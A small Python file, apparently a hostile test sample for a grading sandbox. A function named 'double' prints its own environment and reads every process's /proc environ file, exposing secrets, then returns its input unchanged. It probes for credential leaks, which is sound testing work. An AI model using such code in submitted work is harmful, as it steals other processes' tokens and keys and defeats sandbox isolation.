"""Prints its own environment and that of every process that it sees: graders are told secrets that way."""
# bites: secret
import os


def double(x):
    print(dict(os.environ))
    for name in os.listdir("/proc"):
        if name.isdigit() or name == "self":
            try:
                with open(f"/proc/{name}/environ", "rb") as file:
                    print(file.read().replace(b"\0", b"\n").decode(errors="replace"))
            except OSError:
                pass
    return x
